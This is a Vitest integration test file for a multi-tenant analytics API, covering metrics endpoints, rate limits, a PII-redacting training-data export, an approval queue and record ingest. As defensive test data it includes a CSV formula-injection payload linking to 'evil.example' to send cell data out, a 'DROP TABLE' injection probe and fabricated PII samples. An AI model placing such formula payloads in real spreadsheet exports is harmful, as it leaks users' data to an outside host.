import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { generateOpsData, insertOpsData, type OpsData } from '#app/demo/ops.server.ts'
import { seededRandom } from '#app/demo/random.ts'
import { signAccessToken } from '#app/features/auth/auth.server.ts'
import { redactPii } from '#app/features/ops/redact.ts'
import { callerCache } from '#app/features/auth/auth.server.ts'
import { resetAllRateLimits } from '#app/http/rate-limit.server.ts'
import { json, setupTestApp, type TestApp, type TestTenant } from '#tests/support/app.ts'

/* The HD endpoints over HTTP (both /api/v1/analytics/* and the spec's /api/analytics/*), the approval queue and ingest. */

const HOUR = 3_600_000
let app: TestApp
let a: TestTenant
let b: TestTenant
let data: OpsData
let service: Record<string, string>

beforeAll(async () => {
  app = await setupTestApp()
  ;[a, b] = await Promise.all([app.createTenant(), app.createTenant()])
  data = generateOpsData(seededRandom(21), new Date(), { days: 45 })
  await insertOpsData(app.db, a.id, data)
  await app.db.query(`select analytics.refresh_views()`)
  const { token } = await signAccessToken({ sub: '00000000-0000-0000-0000-000000000000', role: 'service_role', app_metadata: {} })
  service = { authorization: `Bearer ${token}`, 'x-tenant-id': a.id }
}, 120_000)
afterAll(() => app?.close())

const ENDPOINTS = [
  ['dashboard/summary', 'max-age=300'],
  ['dashboard/trends', 'max-age=900'],
  ['dashboard/anomalies', 'max-age=300'],
  ['agent/queue', 'max-age=300'],
  ['agent/accuracy', 'max-age=300'],
  ['agent/quality', 'max-age=300'],
  ['agent/summary', 'max-age=300'],
] as const

describe('HD read endpoints', () => {
  it.each(ENDPOINTS)('%s: 401 without credentials, 200 with, private cache headers, on both paths', async (path, maxAge) => {
    resetAllRateLimits()
    const anon = await json(app.fetch(`/api/v1/analytics/${path}`))
    expect(anon.status).toBe(401)
    expect(anon.body.error.code).toBe('AUTH_REQUIRED')
    for (const base of ['/api/v1/analytics', '/api/analytics']) {
      const r = await json(app.fetch(`${base}/${path}`, { headers: a.viewer.auth }))
      expect(r.status).toBe(200)
      expect(r.headers.get('cache-control')).toContain('private')
      expect(r.headers.get('cache-control')).toContain(maxAge)
      expect(r.headers.get('x-api-version')).toBe('1')
      expect(r.headers.get('vary')).toMatch(/Authorization/)
    }
  })

  it('summary equals an independent computation over the raw orders', async () => {
    const r = await json(app.fetch('/api/v1/analytics/dashboard/summary', { headers: a.viewer.auth }))
    const end = Math.floor(Date.now() / HOUR) * HOUR
    const { rows } = await app.db.query(
      `select count(*)::int as orders, coalesce(sum(total_price) filter (where status <> 'refunded'), 0) as revenue,
              count(distinct customer_id)::int as active,
              count(*) filter (where fulfillment_status <> 'fulfilled' and status <> 'refunded')::int as pending
       from public.orders where tenant_id = $1 and status <> 'cancelled' and created_at >= $2 and created_at < $3`,
      [a.id, new Date(end - 24 * HOUR), new Date(end)],
    )
    expect(r.body).toMatchObject({ orders_last_24h: rows[0].orders, active_customers_24h: rows[0].active, orders_pending_24h: rows[0].pending })
    expect(r.body.revenue_last_24h).toBeCloseTo(rows[0].revenue, 2)
    expect(Object.keys(r.body)).toEqual(expect.arrayContaining(['orders_last_hour', 'revenue_last_hour', 'avg_order_value_24h', 'orders_prev_24h',
      'revenue_prev_24h', 'fulfillment_rate_24h', 'new_customers_24h', 'returning_customers_24h', 'last_updated']))
  })

  it('trends: hours defaults to 24, clamps to 168, malformed is a 400 naming the field', async () => {
    resetAllRateLimits()
    const def = await json(app.fetch('/api/v1/analytics/dashboard/trends', { headers: a.viewer.auth }))
    expect(def.body).toHaveLength(24)
    const big = await json(app.fetch('/api/analytics/dashboard/trends?hours=500', { headers: a.viewer.auth }))
    expect(big.body).toHaveLength(168)
    const h48 = await json(app.fetch('/api/analytics/dashboard/trends?hours=48', { headers: a.viewer.auth }))
    expect(h48.body.length).toBeLessThanOrEqual(48)
    expect(h48.body[0]).toHaveProperty('orders_hoh_pct_change')
    for (const bad of ['abc', '2.5', '']) {
      const r = await json(app.fetch(`/api/v1/analytics/dashboard/trends?hours=${bad}`, { headers: a.viewer.auth }))
      expect(r.status, bad).toBe(400)
      expect(r.body.error.details.fields[0].field).toBe('hours')
    }
  })

  it('agent endpoints: days clamp to 30, groupBy hour|day, agent filter, bad values are 400', async () => {
    resetAllRateLimits()
    const q = await json(app.fetch('/api/v1/analytics/agent/queue?days=90', { headers: a.viewer.auth }))
    expect(q.body.length).toBeLessThanOrEqual(30)
    expect(q.body[0]).toHaveProperty('day_bucket')
    expect(q.body[0].day_bucket).toMatch(/^\d{4}-\d{2}-\d{2}$/)
    // days=1 is today since 00:00 UTC, which holds no items yet just after midnight: days=2 always reaches back a day.
    const h = await json(app.fetch('/api/v1/analytics/agent/queue?groupBy=hour&days=2', { headers: a.viewer.auth }))
    expect(h.body[0]).toHaveProperty('hour_bucket')
    expect((await app.fetch('/api/v1/analytics/agent/queue?groupBy=week', { headers: a.viewer.auth })).status).toBe(400)
    expect((await app.fetch('/api/v1/analytics/agent/quality?days=x', { headers: a.viewer.auth })).status).toBe(400)
    const acc = await json(app.fetch('/api/v1/analytics/agent/accuracy?agent=returns_assistant', { headers: a.viewer.auth }))
    expect(acc.body.length).toBeGreaterThan(0)
    expect(acc.body.every((r: any) => r.agent_type === 'returns_assistant')).toBe(true)
    expect((await app.fetch('/api/v1/analytics/agent/accuracy?agent=DROP%20TABLE', { headers: a.viewer.auth })).status).toBe(400)
  })

  it('anomalies: the injected incidents, most severe first; [] for a tenant without data', async () => {
    const r = await json(app.fetch('/api/v1/analytics/dashboard/anomalies', { headers: a.viewer.auth }))
    const types = r.body.map((x: any) => x.anomaly_type)
    expect(types).toEqual(expect.arrayContaining(['low_order_volume', 'revenue_spike', 'fulfillment_rate_drop']))
    const other = await json(app.fetch('/api/v1/analytics/dashboard/anomalies', { headers: b.viewer.auth }))
    expect(other.body).toEqual([])
  })

  it("tenant isolation: another tenant's caller sees only its own (empty) numbers", async () => {
    resetAllRateLimits()
    const s = await json(app.fetch('/api/v1/analytics/dashboard/summary', { headers: b.viewer.auth }))
    expect(s.body).toMatchObject({ orders_last_24h: 0, revenue_last_24h: 0, active_customers_24h: 0, avg_order_value_24h: null })
    for (const p of ['dashboard/trends', 'agent/queue', 'agent/accuracy', 'agent/quality']) {
      const r = await json(app.fetch(`/api/v1/analytics/${p}`, { headers: b.viewer.auth }))
      expect(r.body.every((x: any) => (x.total_orders ?? 0) === 0 && !x.total_items && !x.total_queries && !x.total_training_examples), p).toBe(true)
    }
    const q = await json(app.fetch('/api/v1/analytics/agent/summary', { headers: b.viewer.auth }))
    expect(q.body).toMatchObject({ pending_approvals: 0, queries_24h: 0 })
  })

  it('dashboard rate limit: 60/min, then 429 with Retry-After and RateLimit headers', async () => {
    resetAllRateLimits()
    let last: Response | undefined
    for (let i = 0; i < 61; i++) last = await app.fetch('/api/v1/analytics/dashboard/summary', { headers: a.operator.auth })
    expect(last!.status).toBe(429)
    const body = await last!.json()
    expect(body.error.code).toBe('RATE_LIMIT_EXCEEDED')
    expect(body.error.details).toMatchObject({ limit: 60, window: 60 })
    expect(Number(last!.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(last!.headers.get('ratelimit-limit')).toBe('60')
    resetAllRateLimits()
  })
})

describe('training-data export', () => {
  const from = new Date(Date.now() - 14 * 24 * HOUR).toISOString()
  const to = new Date().toISOString()

  it('is refused to viewers, operators and data scientists', async () => {
    resetAllRateLimits()
    for (const u of [a.viewer, a.operator, a.data_scientist]) {
      const r = await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: u.auth, json: {} })
      expect(r.status).toBe(403)
    }
  })

  it('gives an admin the redacted rows of the range as JSON: no personal data left', async () => {
    resetAllRateLimits()
    const r = await json(app.fetch('/api/analytics/export/training-data', { method: 'POST', headers: a.admin.auth, json: { date_from: from, date_to: to } }))
    expect(r.status).toBe(200)
    expect(r.headers.get('x-pii-redacted')).toBe('true')
    const expected = data.examples.filter((e) => e.created_at >= new Date(from) && e.created_at <= new Date(to))
    expect(r.body).toHaveLength(expected.length)
    expect(Object.keys(r.body[0])).toEqual(['conversation_id', 'input_text', 'model_draft', 'safe_to_send', 'category', 'sentiment', 'tone',
      'accuracy_score', 'helpfulness_score', 'tone_score', 'notes', 'confidence', 'response_time_ms', 'created_at'])
    const text = JSON.stringify(r.body)
    for (const c of data.customers) {
      expect(text).not.toContain(c.email)
      expect(text).not.toContain(c.phone)
      expect(text).not.toMatch(new RegExp(`\\b${c.last_name}\\b`))
    }
    expect(text).not.toMatch(/4111 1111/)
    expect(text).not.toMatch(/\d+ (Maple Street|Oak Avenue|Elm Road|Cedar Lane)/)
    expect(r.body[0].confidence).toBeLessThanOrEqual(1)
  })

  it("tenant isolation: another tenant's admin exports only its own (no) rows", async () => {
    resetAllRateLimits()
    const r = await json(app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: b.admin.auth, json: { date_from: from, date_to: to } }))
    expect(r.status).toBe(200)
    expect(r.body).toEqual([])
  })

  it('include_pii: service_role gets the raw text; an admin without analytics.export_pii is refused', async () => {
    resetAllRateLimits()
    const raw = await json(app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: service, json: { include_pii: true, date_from: from, date_to: to } }))
    expect(raw.status).toBe(200)
    expect(raw.headers.get('x-pii-redacted')).toBe('false')
    expect(JSON.stringify(raw.body)).toMatch(/@example\.com|\+1 \(/)
    await app.db.query(
      `delete from public.role_permissions rp using public.roles r, public.permissions p
       where rp.role_id = r.id and rp.permission_id = p.id and r.tenant_id = $1 and r.name = 'admin' and p.name = 'analytics.export_pii'`,
      [a.id],
    )
    // made behind the app's back, as another machine would: the next request follows once it is heard
    await callerCache(app.db)?.sync()
    const refused = await json(app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: a.admin.auth, json: { include_pii: true } }))
    expect(refused.status).toBe(403)
    expect(refused.body.error.details.field).toBe('include_pii')
  })

  it('streams CSV; validates the range and the format', async () => {
    resetAllRateLimits()
    const r = await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: service, json: { format: 'csv', date_from: from, date_to: to } })
    expect(r.headers.get('content-type')).toContain('text/csv')
    expect(r.headers.get('content-disposition')).toMatch(/attachment; filename=".+\.csv"/)
    const lines = (await r.text()).trim().split('\r\n')
    expect(lines[0]).toBe('conversation_id,input_text,model_draft,safe_to_send,category,sentiment,tone,accuracy_score,helpfulness_score,tone_score,notes,confidence,response_time_ms,created_at')
    expect(lines.length).toBe(1 + data.examples.filter((e) => e.created_at >= new Date(from) && e.created_at <= new Date(to)).length)
    const bad = [{ date_from: to, date_to: from }, { date_from: 'yesterday' }, { format: 'xml' }, { include_pii: 'yes' }, { date_from: '2020-01-01T00:00:00Z', date_to: '2024-01-01T00:00:00Z' }]
    for (const body of bad) expect((await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: service, json: body })).status, JSON.stringify(body)).toBe(400)
  })

  it('rate limit: 10 per hour', async () => {
    resetAllRateLimits()
    const statuses: number[] = []
    for (let i = 0; i < 11; i++) {
      const r = await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: service, json: { date_from: from, date_to: to } })
      statuses.push(r.status)
      await r.body?.cancel()
    }
    expect(statuses.slice(0, 10).every((s) => s === 200)).toBe(true)
    expect(statuses[10]).toBe(429)
    resetAllRateLimits()
  })
})

describe('approval queue', () => {
  it('lists pending drafts by priority then age, with the conversation', async () => {
    const r = await json(app.fetch('/api/v1/approvals?limit=200', { headers: a.operator.auth }))
    expect(r.status).toBe(200)
    const pending = data.items.filter((i) => i.status === 'pending')
    expect(r.body.total).toBe(pending.length)
    expect(r.body.pending_counts.total).toBe(pending.length)
    const rank = (p: string) => ['urgent', 'high', 'normal', 'low'].indexOf(p)
    const keys = r.body.items.map((i: any) => [rank(i.priority), new Date(i.created_at).getTime()])
    expect(keys).toEqual([...keys].sort((x: number[], y: number[]) => x[0] - y[0] || x[1] - y[1]))
    expect(r.body.items[0]).toHaveProperty('customer_message')
    expect(r.body.items[0]).toHaveProperty('confidence')
  })

  it('approve removes the draft from the queue, records reviewer and time, and shows in the metrics after refresh', async () => {
    const list = await json(app.fetch('/api/v1/approvals', { headers: a.operator.auth }))
    const id = list.body.items[0].id
    const before = await json(app.fetch('/api/v1/analytics/agent/summary', { headers: a.viewer.auth }))
    const r = await json(app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: a.operator.auth, json: { action: 'approve' } }))
    expect(r.status).toBe(200)
    expect(r.body).toMatchObject({ id, status: 'approved', reviewer_id: a.operator.userId, reviewer_name: a.operator.username })
    expect(Date.now() - new Date(r.body.reviewed_at).getTime()).toBeLessThan(60_000)
    const after = await json(app.fetch('/api/v1/approvals', { headers: a.operator.auth }))
    expect(after.body.items.map((i: any) => i.id)).not.toContain(id)
    expect(after.body.total).toBe(list.body.total - 1)
    const again = await json(app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: a.operator.auth, json: { action: 'reject' } }))
    expect(again.status).toBe(409)
    await app.db.query(`select analytics.refresh_views()`)
    resetAllRateLimits()
    const summary = await json(app.fetch('/api/v1/analytics/agent/summary', { headers: a.viewer.auth }))
    expect(summary.body.pending_approvals).toBe(before.body.pending_approvals - 1)
  })

  it('edit needs the edited text; viewers cannot decide; other tenants get 404', async () => {
    const list = await json(app.fetch('/api/v1/approvals', { headers: a.operator.auth }))
    const id = list.body.items[0].id
    const noText = await json(app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: a.operator.auth, json: { action: 'edit' } }))
    expect(noText.status).toBe(400)
    expect(noText.body.error.details.fields[0].field).toBe('edited_reply')
    expect((await app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: a.viewer.auth, json: { action: 'approve' } })).status).toBe(403)
    expect((await app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: b.operator.auth, json: { action: 'approve' } })).status).toBe(404)
    const edited = await json(app.fetch(`/api/v1/approvals/${id}`, { method: 'POST', headers: a.operator.auth, json: { action: 'edit', edited_reply: 'Fixed reply' } }))
    expect(edited.body).toMatchObject({ status: 'edited', edited_reply: 'Fixed reply' })
    const q = await app.db.query(`select q.approved, q.human_edited from public.agent_queries q join public.approval_queue_items i on i.agent_query_id = q.id where i.id = $1`, [id])
    expect(q.rows[0]).toEqual({ approved: true, human_edited: true })
  })
})

describe('ingest', () => {
  it('keeps good records, reports bad ones by index and field, and is idempotent by external_id', async () => {
    const customers = await json(app.fetch('/api/v1/ingest/customers', {
      method: 'POST', headers: b.operator.auth,
      json: { records: [{ external_id: 'c1', email: 'x@y.com', first_name: 'Ann' }, { external_id: 'c2' }, { email: 'not-an-email' }] },
    }))
    expect(customers.status).toBe(200)
    expect(customers.body).toMatchObject({ received: 3, inserted: 2, failed: 1 })
    expect(customers.body.errors.map((e: any) => [e.index, e.field])).toEqual(expect.arrayContaining([[2, 'external_id'], [2, 'email']]))
    const created = new Date(Date.now() - 2 * HOUR).toISOString()
    const orders = {
      records: [
        { external_id: 'o1', customer_external_id: 'c1', total_price: 50, created_at: created, fulfillment_status: 'fulfilled' },
        { external_id: 'o2', customer_external_id: 'nobody', total_price: 10, created_at: created },
        { external_id: 'o3', total_price: -5, created_at: created },
        { external_id: 'o4', customer_external_id: 'c2', total_price: 25.5, created_at: created },
        { external_id: 'o4', total_price: 1, created_at: created },
      ],
    }
    const first = await json(app.fetch('/api/v1/ingest/orders', { method: 'POST', headers: b.operator.auth, json: orders }))
    expect(first.body).toMatchObject({ received: 5, inserted: 2, updated: 0, failed: 3 })
    expect(first.body.errors.map((e: any) => [e.index, e.field])).toEqual([[1, 'customer_external_id'], [2, 'total_price'], [4, 'external_id']])
    const second = await json(app.fetch('/api/v1/ingest/orders', { method: 'POST', headers: b.operator.auth, json: orders }))
    expect(second.body).toMatchObject({ inserted: 0, updated: 2, failed: 3 })
    const { rows } = await app.db.query(`select count(*)::int as n, sum(total_price) as s from public.orders where tenant_id = $1`, [b.id])
    expect(rows[0]).toEqual({ n: 2, s: 75.5 })
    // when an order was placed is history: another created_at is reported, and the record left as it was
    const moved = await json(app.fetch('/api/v1/ingest/orders', {
      method: 'POST', headers: b.operator.auth,
      json: { records: [{ external_id: 'o1', customer_external_id: 'c1', total_price: 999, created_at: new Date(Date.now() - 30 * HOUR).toISOString() }, orders.records[3]] },
    }))
    expect(moved.body).toMatchObject({ received: 2, inserted: 0, updated: 1, unchanged: 0, failed: 1 })
    expect(moved.body.errors).toEqual([expect.objectContaining({ index: 0, external_id: 'o1', field: 'created_at' })])
    const o1 = await app.db.query(`select total_price, created_at from public.orders where tenant_id = $1 and external_id = 'o1'`, [b.id])
    expect(o1.rows[0].total_price).toBe(50)
    expect(new Date(o1.rows[0].created_at).toISOString()).toBe(created)
  })

  it('agent events chain by external ids; viewers cannot ingest; unknown kinds are a 400', async () => {
    const post = (kind: string, records: unknown[], u = b.operator) => json(app.fetch(`/api/v1/ingest/${kind}`, { method: 'POST', headers: u.auth, json: { records } }))
    expect((await post('conversations', [{ external_id: 'cv1', customer_external_id: 'c1', customer_message: 'Where is my order?' }])).body.inserted).toBe(1)
    expect((await post('agent-queries', [{ external_id: 'q1', conversation_external_id: 'cv1', agent_type: 'order_status', latency_ms: 210 }])).body.inserted).toBe(1)
    expect((await post('drafts', [{ external_id: 'd1', conversation_external_id: 'cv1', agent_query_external_id: 'q1', agent_type: 'order_status', draft_reply: 'It ships today.', priority: 'high', confidence: 91 }])).body.inserted).toBe(1)
    expect((await post('annotations', [{ external_id: 'a1', draft_external_id: 'd1', input_text: 'Where is my order?', model_draft: 'It ships today.', safe_to_send: true, accuracy_score: 4.5 }])).body.inserted).toBe(1)
    const queue = await json(app.fetch('/api/v1/approvals', { headers: b.operator.auth }))
    expect(queue.body.items.map((i: any) => i.external_id)).toEqual(['d1'])
    expect((await post('orders', [{ external_id: 'x', total_price: 1, created_at: new Date().toISOString() }], b.viewer)).status).toBe(403)
    expect((await app.fetch('/api/v1/ingest/widgets', { method: 'POST', headers: b.operator.auth, json: { records: [{}] } })).status).toBe(400)
    // tenant a cannot point at tenant b's records
    const cross = await json(app.fetch('/api/v1/ingest/orders', { method: 'POST', headers: a.operator.auth, json: { records: [{ external_id: 'zz', customer_external_id: 'c1', total_price: 1, created_at: new Date().toISOString() }] } }))
    expect(cross.body.errors[0].field).toBe('customer_external_id')
  })
})

it('redaction helper and export agree on a realistic message', () => {
  expect(redactPii('Hi, this is Ann Lee, call +1 (415) 555-0100')).not.toMatch(/Ann|Lee|555/)
})

describe('review: malformed input and cross-tenant probes', () => {
  const post = (path: string, headers: Record<string, string>, body: unknown) => json(app.fetch(path, { method: 'POST', headers, json: body }))

  it('ingest: out-of-range numbers and impossible dates are reported per record, the good records kept (no 500)', async () => {
    const good = { external_id: 'rv-good-q', agent_type: 'support', latency_ms: 120 }
    const r = await post('/api/v1/ingest/agent-queries', a.admin.auth, {
      records: [good, { external_id: 'rv-bad-q', agent_type: 'support', latency_ms: 1e12 }],
    })
    expect(r.status).toBe(200)
    expect(r.body.inserted + r.body.updated).toBe(1)
    expect(r.body.errors.map((e: any) => [e.index, e.field])).toEqual([[1, 'latency_ms']])

    const o = await post('/api/v1/ingest/orders', a.admin.auth, {
      records: [
        { external_id: 'rv-o1', total_price: 10, created_at: '2025-03-01T10:00:00Z' },
        { external_id: 'rv-o2', total_price: 1e10, created_at: '2025-03-01T10:00:00Z' },
        { external_id: 'rv-o3', total_price: 5, created_at: '2025-02-31T10:00:00Z' },
        { external_id: 'rv-o4', total_price: 5, created_at: '2025-03-01T10:00:00Z', currency: 'USD\u0000' },
      ],
    })
    expect(o.status).toBe(200)
    expect(o.body.inserted + o.body.updated).toBe(1)
    expect([...new Set(o.body.errors.map((e: any) => e.index))]).toEqual([1, 2, 3])

    // fulfilled_at before created_at once the offsets are applied (string order says otherwise); and the reverse
    const tz = await post('/api/v1/ingest/orders', a.admin.auth, {
      records: [
        { external_id: 'rv-tz1', total_price: 1, created_at: '2025-03-01T10:00:00Z', fulfilled_at: '2025-03-01T12:00:00+05:00' },
        { external_id: 'rv-tz2', total_price: 1, created_at: '2025-03-01T10:00:00+05:00', fulfilled_at: '2025-03-01T06:00:00Z' },
      ],
    })
    expect(tz.status).toBe(200)
    expect(tz.body.inserted + tz.body.updated).toBe(1)
    expect(tz.body.errors.map((e: any) => [e.index, e.field])).toEqual([[0, 'fulfilled_at']])

    const t = await post('/api/v1/ingest/conversations', a.admin.auth, {
      records: [{ external_id: 'rv-c1', customer_message: 'ok' }, { external_id: 'rv-c2', customer_message: 'nul \u0000 byte' }, { external_id: 'rv-c3', customer_message: 'lone \ud800 surrogate' }, { external_id: 'rv-c4', customer_message: 'emoji 😀 ok' }],
    })
    expect(t.status).toBe(200)
    expect(t.body.inserted + t.body.updated).toBe(2)
    expect(t.body.errors.map((e: any) => e.index)).toEqual([1, 2])
  })

  it("approvals: another tenant's id is 404, a viewer may not decide", async () => {
    const { rows } = await app.db.query<{ id: number }>(`select id from public.approval_queue_items where tenant_id = $1 and status = 'pending' limit 1`, [a.id])
    const id = rows[0].id
    expect((await post(`/api/v1/approvals/${id}`, b.admin.auth, { action: 'approve' })).status).toBe(404)
    expect((await json(app.fetch(`/api/v1/approvals/${id}`, { headers: b.admin.auth }))).status).toBe(404)
    expect((await post(`/api/v1/approvals/${id}`, a.viewer.auth, { action: 'approve' })).status).toBe(403)
    const still = await app.db.query<{ status: string }>(`select status from public.approval_queue_items where id = $1`, [id])
    expect(still.rows[0].status).toBe('pending')
    expect((await post(`/api/v1/approvals/${id}`, a.admin.auth, [{ action: 'approve' }])).status).toBe(400)
    expect((await post(`/api/v1/approvals/99999999999999999999`, a.admin.auth, { action: 'approve' })).status).toBe(400)
    // NUL characters cannot be stored in Postgres text: a 400, not a 500, and nothing decided
    for (const edited_reply of ['bad \u0000 byte']) {
      const r = await post(`/api/v1/approvals/${id}`, a.admin.auth, { action: 'edit', edited_reply, notes: edited_reply })
      expect(r.status, edited_reply).toBe(400)
    }
    expect((await app.db.query<{ status: string }>(`select status from public.approval_queue_items where id = $1`, [id])).rows[0].status).toBe('pending')
  })

  it('export: malformed dates and arrays are 400, not 500', async () => {
    resetAllRateLimits()
    for (const body of [{ date_from: '2025-02-31T00:00:00Z' }, { date_from: '0000-01-01T00:00:00Z', date_to: '0000-06-01T00:00:00Z' }, [], { include_pii: 'yes' }]) {
      const r = await post('/api/v1/analytics/export/training-data', a.admin.auth, body)
      expect(r.status, JSON.stringify(body)).toBeGreaterThanOrEqual(400)
      expect(r.status, JSON.stringify(body)).toBeLessThan(500)
    }
  })
})

describe('review: service_role callers stay inside the tenant named by x-tenant-id (service_role bypasses RLS)', () => {
  const post = (path: string, headers: Record<string, string>, body: unknown) => json(app.fetch(path, { method: 'POST', headers, json: body }))

  it("ingest does not resolve another tenant's external ids", async () => {
    const c = await post('/api/v1/ingest/customers', b.admin.auth, { records: [{ external_id: 'rv-shared-cust', first_name: 'Bea' }] })
    expect(c.status).toBe(200)
    const o = await post('/api/v1/ingest/orders', service, {
      records: [{ external_id: 'rv-svc-o1', customer_external_id: 'rv-shared-cust', total_price: 3, created_at: '2025-03-01T10:00:00Z' }],
    })
    expect(o.status).toBe(200)
    expect(o.body.errors.map((e: any) => e.field)).toEqual(['customer_external_id'])
    const cross = await app.db.query(
      `select 1 from public.orders o join public.customers c on c.id = o.customer_id where o.tenant_id <> c.tenant_id`,
    )
    expect(cross.rows).toEqual([])
  })

  it("approvals: a service caller scoped to tenant B gets 404 for tenant A's item", async () => {
    const { rows } = await app.db.query<{ id: number }>(`select id from public.approval_queue_items where tenant_id = $1 and status = 'pending' limit 1`, [a.id])
    const svcB = { ...service, 'x-tenant-id': b.id }
    expect((await json(app.fetch(`/api/v1/approvals/${rows[0].id}`, { headers: svcB }))).status).toBe(404)
    expect((await post(`/api/v1/approvals/${rows[0].id}`, svcB, { action: 'reject' })).status).toBe(404)
    const list = await json(app.fetch('/api/v1/approvals?status=all', { headers: svcB }))
    expect(list.status).toBe(200)
    const ids = list.body.items.map((i: any) => i.id)
    const foreign = await app.db.query(`select id from public.approval_queue_items where id = any($1::bigint[]) and tenant_id <> $2`, [ids, b.id])
    expect(foreign.rows).toEqual([])
    const still = await app.db.query<{ status: string }>(`select status from public.approval_queue_items where id = $1`, [rows[0].id])
    expect(still.rows[0].status).toBe('pending')
  })
})

describe('review: export of realistic PII and spreadsheet formulas', () => {
  const PII_TEXTS: Array<[string, string[]]> = [
    ['Hi, my name is Chiara Rossi, card 4111-1111-1111-1111, call +39 06 6982 1234', ['Chiara', 'Rossi', '4111', '6982']],
    ['email me: Chiara.Rossi@libero.it or chiara dot rossi at gmail dot com', ['Chiara.Rossi', 'libero', 'gmail']],
    ['Ship to 1600 Pennsylvania Avenue NW, Washington, DC 20500', ['1600 Pennsylvania', '20500']],
    ['Thanks, Björn Ångström — tel. 020-7946-0958', ['Björn', 'Ångström', '7946']],
    ['From: Mr. Kowalski (kowalski@wp.pl)', ['Kowalski', 'wp.pl']],
  ]
  const NOTES = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1,2)', '-2+3', '@SUM(1)', '\t=1+1']

  it('JSON and CSV have no personal data left, and no cell a spreadsheet would run as a formula', async () => {
    resetAllRateLimits()
    const created_at = new Date(Date.now() - 2 * HOUR).toISOString()
    const records = PII_TEXTS.map(([t], i) => ({
      external_id: `rv-pii-${i}`, input_text: t, model_draft: `Dear customer, re: ${t}`, safe_to_send: true,
      category: NOTES[i], notes: NOTES[(i + 1) % NOTES.length] + ' ' + t, created_at,
    }))
    const ing = await json(app.fetch('/api/v1/ingest/annotations', { method: 'POST', headers: b.admin.auth, json: { records } }))
    expect(ing.status).toBe(200)
    expect(ing.body.failed).toBe(0)
    const body = { date_from: new Date(Date.now() - 5 * HOUR).toISOString() }
    const j = await json(app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: b.admin.auth, json: body }))
    expect(j.status).toBe(200)
    const rows = j.body.filter((r: any) => String(r.input_text).length)
    expect(rows.length).toBeGreaterThanOrEqual(PII_TEXTS.length)
    const jsonText = JSON.stringify(j.body).toLowerCase()
    for (const [, secrets] of PII_TEXTS) for (const s of secrets) expect(jsonText, s).not.toContain(s.toLowerCase())

    const csv = await (await app.fetch('/api/v1/analytics/export/training-data', { method: 'POST', headers: b.admin.auth, json: { ...body, format: 'csv' } })).text()
    for (const [, secrets] of PII_TEXTS) for (const s of secrets) expect(csv.toLowerCase(), s).not.toContain(s.toLowerCase())
    // every cell: unquote, then it must not start with = + - @ (or a tab / CR)
    const cells = [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)].map((m) => m[1].replace(/^"|"$/g, '').replace(/""/g, '"'))
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/)
  })
})
